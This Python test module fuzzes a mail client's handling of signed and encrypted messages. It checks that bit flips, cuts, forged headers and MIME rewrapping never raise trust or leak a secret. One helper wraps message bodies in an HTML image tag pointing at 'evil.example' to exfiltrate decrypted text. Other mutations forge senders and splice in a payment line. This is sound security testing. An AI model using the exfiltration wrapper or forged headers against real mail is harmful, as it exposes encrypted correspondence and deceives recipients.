"""However the bytes of a message are changed, it never becomes worth more, and gives nothing away.

Hypothesis runs from a fixed seed, so a failure comes again; MAILCLIENT_MUTATIONS=1000 makes a long
run of it.
"""

from __future__ import annotations

import os
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailclient.message.security import SignatureWord, State
from mailclient.services.read import MessageView
from tests.attacks import newer
from tests.attacks.certificates import Pen, cbc, gcm, p7m, signed_data
from tests.attacks.conftest import BOB, MALLORY, SECRET, TEXT, TOM, Desk
from tests.attacks.newer import NORA, new_key
from tests.attacks.rows_inline import clear
from tests.attacks.rows_smime import SUE, detached, safe
from tests.attacks.table import EVIL, HEAD, html, multipart
from tests.attacks.test_table import everything_that_leaves

FEW = settings(
    max_examples=int(os.environ.get("MAILCLIENT_MUTATIONS", "12")),
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=list(HealthCheck),
)
Build = Callable[[Desk], bytes]


KEY = new_key()
BASES: dict[str, Build] = {
    "signed": lambda desk: desk.letter(desk.signed()),
    "signed by another": lambda desk: desk.letter(desk.signed(by=MALLORY)),
    "signed by a key that came by mail": lambda desk: desk.letter(desk.signed(by=TOM), sender=TOM),
    "signed in the open": lambda desk: desk.letter(HEAD + clear(desk)),
    "encrypted and signed": lambda desk: desk.letter(desk.sealed()),
    "encrypted": lambda desk: desk.letter(desk.sealed(by=None)),
    "with protected fields": lambda desk: desk.protected_letter(desk.fields(), desk.fields()),
    "encrypted to another": lambda desk: desk.letter(desk.sealed(to=BOB)),
    "S/MIME signed": lambda desk: desk.letter(detached(desk, safe(desk).sue), From=SUE),
    "S/MIME signed within": lambda desk: desk.letter(
        p7m(signed_data(TEXT, Pen(safe(desk).sue), more=safe(desk).chain(), detached=False)),
        From=SUE,
    ),
    "S/MIME encrypted and signed": lambda desk: desk.letter(
        p7m(cbc(detached(desk, safe(desk).sue), safe(desk).alice), "enveloped-data"), From=SUE
    ),
    "S/MIME encrypted": lambda desk: desk.letter(p7m(cbc(TEXT, safe(desk).alice)), From=SUE),
    "S/MIME encrypted and guarded": lambda desk: desk.letter(
        p7m(gcm(TEXT, safe(desk).alice), "authenveloped-data"), From=SUE
    ),
    "newer form, signed": lambda desk: desk.letter(newer.signed(KEY), From=NORA),
    "newer form, encrypted": lambda desk: desk.letter(newer.sealed_to(KEY), From=NORA),
    "newer form, encrypted and signed": lambda desk: desk.letter(
        newer.sealed_to(KEY, newer.signed(KEY)), From=NORA
    ),
    "mixed": lambda desk: desk.letter(multipart("mixed", EVIL, desk.sealed())),
}
READABLE = {
    "signed", "signed by another", "signed by a key that came by mail", "S/MIME signed",
    "S/MIME signed within", "newer form, signed",
}  # fmt: skip
FIELDS = (
    f"From: {MALLORY}", f"From: {BOB}", f"Sender: {BOB}", f"Reply-To: {MALLORY}", "Subject: A lie",
    "Date: Mon, 1 Jan 2029 00:00:00 +0000", 'Content-Type: text/plain; hp="cipher"',
    'Content-Type: multipart/mixed; boundary="x"', "Content-Transfer-Encoding: base64",
    "HP-Outer: Subject: [...]", "X: y", "",
)  # fmt: skip
WAYS = ("flip", "cut", "end", "splice", "field", "rename", "wrap", "twice")
RENAMED = (
    (b"multipart/signed", b"multipart/mixed"),
    (b"multipart/encrypted", b"multipart/mixed"),
    (b"From: bob@", b"From: tom@"),
    (b"protocol=", b"protocol*="),
    (b"boundary=", b"boundary*0="),
    (b"text/plain", b"text/html"),
    (b"PGP MESSAGE", b"PGP SIGNATURE"),
    (b"pkcs7-mime", b"pkcs7-signature"),
    (b"smime-type=", b"smime-type=signed-data; x="),
    (b"smime-type=", b"smime-type=certs-only; x="),
    (b"From: sue@", b"From: bob@"),
    (b"PGP SIGNATURE", b"PGP MESSAGE"),
)
WRAPPINGS = ("mixed", "alternative", "related", "signed", "encrypted", "digest")


@st.composite
def changes(draw: st.DrawFn) -> Callable[[bytes], bytes]:
    """One way to change a message."""
    at = draw(st.floats(0, 1))
    to = draw(st.floats(0, 1))
    match draw(
        st.sampled_from(["flip", "cut", "end", "splice", "field", "rename", "wrap", "twice"])
    ):
        case "flip":
            bit = 1 << draw(st.integers(0, 7))
            return lambda raw: _with(raw, at, lambda byte: bytes([byte ^ bit]))
        case "cut":
            return lambda raw: raw[: _at(raw, min(at, to))] + raw[_at(raw, max(at, to)) :]
        case "end":
            return lambda raw: raw[: _at(raw, at)]
        case "splice":
            text = draw(st.sampled_from([b"\r\n", b"Pay 900.\r\n", b"\x00", b"\r\n\r\n", b"=\r\n"]))
            return lambda raw: raw[: _at(raw, at)] + text + raw[_at(raw, at) :]
        case "field":
            field = draw(st.sampled_from(FIELDS)).encode()
            return lambda raw: field + b"\r\n" + raw
        case "rename":
            old, new = draw(st.sampled_from(RENAMED))
            return lambda raw: raw.replace(old, new)
        case "wrap":
            kind = draw(st.sampled_from(WRAPPINGS))
            return lambda raw: _wrapped(raw, kind)
        case _:
            return lambda raw: raw + raw[_at(raw, at) :]


def _at(raw: bytes, share: float) -> int:
    return int(share * len(raw))


def _with(raw: bytes, share: float, change: Callable[[int], bytes]) -> bytes:
    if not raw:
        return raw
    at = min(_at(raw, share), len(raw) - 1)
    return raw[:at] + change(raw[at]) + raw[at + 1 :]


def _wrapped(raw: bytes, kind: str) -> bytes:
    """The body of a message among others, under the message's own header."""
    at = max(0, raw.lower().find(b"content-type:"))
    return raw[:at] + multipart(kind, html('<img src="http://evil.example/'), raw[at:], html('">'))


def axes(view: MessageView) -> tuple[bool, bool, bool]:
    """What a message is worth: encrypted, soundly signed, by a confirmed key."""
    verdict = view.verdict
    good = verdict.signature is SignatureWord.GOOD
    return view.encrypted, good and verdict.signer is not None, verdict.verified


@pytest.fixture(scope="module")
def bases(desk: Desk) -> dict[str, tuple[bytes, MessageView]]:
    """Each message once, with what is thought of it."""
    [taken] = desk.app.keys.import_keys(bytes(KEY))
    desk.app.keys.trust(taken.fingerprint, NORA, "verified")
    raws = {name: build(desk) for name, build in BASES.items()}
    return {name: (raw, desk.read(raw)) for name, raw in raws.items()}


@pytest.mark.parametrize("base", BASES)
@FEW
@given(data=st.data())
def test_no_change_makes_a_message_worth_more(
    desk: Desk, bases: dict[str, tuple[bytes, MessageView]], base: str, data: st.DataObject
) -> None:
    raw, before = bases[base]
    for change in data.draw(st.lists(changes(), min_size=1, max_size=2)):
        raw = change(raw)
    after = desk.read(raw)
    for was, now in zip(axes(before), axes(after), strict=True):
        assert was or not now
    if after.verdict.signature is SignatureWord.GOOD:
        assert after.body.text == before.body.text
        assert [one.key for one in after.envelope.from_] == [
            one.key for one in before.envelope.from_
        ]
    if base not in READABLE:
        hidden = after.verdict.state in (State.LOCKED, State.BROKEN, State.MIXED, State.DAMAGED)
        if hidden and SECRET not in raw.decode("latin-1"):
            assert SECRET not in everything_that_leaves(desk, after)
    answer = desk.app.compose.reply(after).draft
    quoted = [line[2:] for line in answer.text.splitlines() if line.startswith("> ")]
    shown = {line.rstrip() for line in after.body.text.splitlines()}
    assert set(quoted) <= shown
    assert answer.encrypt is after.encrypted


def test_there_is_something_to_lose(bases: dict[str, tuple[bytes, MessageView]]) -> None:
    """Else the changes would prove nothing."""
    worth = {name: axes(view) for name, (_, view) in bases.items()}
    assert {name for name, (sealed, _, _) in worth.items() if sealed} == {
        name for name in BASES if "encrypted" in name or name == "with protected fields"
    } - {"encrypted to another"}
    assert {name for name, (_, good, _) in worth.items() if good} >= {
        "signed", "encrypted and signed", "S/MIME signed", "newer form, signed",
        "newer form, encrypted and signed",
    }  # fmt: skip
